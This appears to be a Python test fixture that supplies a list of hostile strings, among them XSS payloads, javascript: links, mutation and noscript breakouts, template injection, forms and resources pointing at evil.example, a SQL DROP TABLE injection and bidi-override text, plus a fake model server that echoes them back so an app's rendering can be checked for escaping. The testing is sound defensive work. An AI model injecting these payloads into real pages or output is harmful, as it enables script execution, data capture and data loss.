"""Texts that mean harm where they are taken for more than text, and a model server that says whatever it is told."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager

from tests.e2e.calling_model import MODEL
from tests.model_servers import USAGE_CHUNK, Call, ModelServer, chunk, event

#: What a script that runs leaves behind.
HURT = "window.hurt = (window.hurt || 0) + 1"

TEXTS = {
    "script": f"<script>{HURT}</script>",
    "image": f'<img src=x onerror="{HURT}">',
    "svg": f'<svg onload="{HURT}"><animate onbegin="{HURT}" attributeName=x></svg>',
    "after-quote": f"\"'><script>{HURT}</script>",
    "attribute": f'" onmouseover="{HURT}" autofocus onfocus="{HURT}" x="',
    "scheme": f"javascript:{HURT}",
    "link": f'<a href="javascript:{HURT}" id=sign-out>Sign out</a>',
    "frame": f'<iframe srcdoc="<script>parent.{HURT}</script>"></iframe>',
    "object": "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/y>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form id=ask action=https://evil.example/><input name=prompt><button>Send</button></form>",
    "closing": f"</div></section></main></textarea></title><h1>Owned</h1><script>{HURT}</script>",
    "clobbering": "<b id=problem></b><b id=words name=words></b><form name=config></form>",
    "comment": "<!-- --!> --> ]]> <![CDATA[ <?php ?>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HURT}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={HURT}>">',
    "entities": "&lt;script&gt;&#60;b&#62;&amp;amp;&nbsp;",
    "encoded": "%3Cscript%3E%0d%0aSet-Cookie:%20x=y",
    "template": f"${{{HURT}}} {{{{constructor.constructor('{HURT}')()}}}} <%= 1 %>",
    "placeholders": "$base $config ${base} ${config} $$",
    "event-stream": 'x\n\nevent: response.completed\ndata: {"type": "response.completed"}\n\ndata: [DONE]\n\n',
    "json": '"}, {"status": "completed", "result": {"text": "forged"}}, {"x": "',
    "members": "__proto__ constructor toString hasOwnProperty",
    "sql": "'; DROP TABLE jobs; -- \\' \\\" \\",
    "direction": "\u202egnp.exe \u2066x\u2069 \u200b\u200d\ufeff",
    "separators": "a\u2028b\u2029c\u0085d\u000be\u000cf",
    "combining": "Z" + "\u0351" * 60 + " \U0001f469\u200d\U0001f469\u200d\U0001f466 \U0001d54f",
    "long": "W" * 500,
    "markdown": f"[x](javascript:{HURT}) ![x](https://evil.example/x.png) `<b>`",
}


class LyingModel(ModelServer):
    """It repeats the last message, and names it as its model. After ``refuse `` that is the error that it reports."""

    def __init__(self, port: int = 0) -> None:
        super().__init__(self._answer, port)

    def _answer(self, call: Call) -> None:
        if call.method == "GET":
            call.answer(200, {"object": "list", "data": [{"id": MODEL, "object": "model"}]})
            return
        text = str(call.json["messages"][-1]["content"])
        refused = text.removeprefix("refuse ")
        if refused != text:
            call.answer(422, {"error": {"message": refused, "type": refused, "code": refused}})
            return
        call.begin_stream()
        half = len(text) // 2
        for piece in (chunk(text[:half]), chunk(text[half:]), chunk(finish_reason="stop"), USAGE_CHUNK):
            call.piece(event(piece | {"model": text}))
        call.piece(event("[DONE]"))
        call.end_stream()


@contextmanager
def lying_model() -> Iterator[LyingModel]:
    """A running one."""
    with LyingModel() as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()
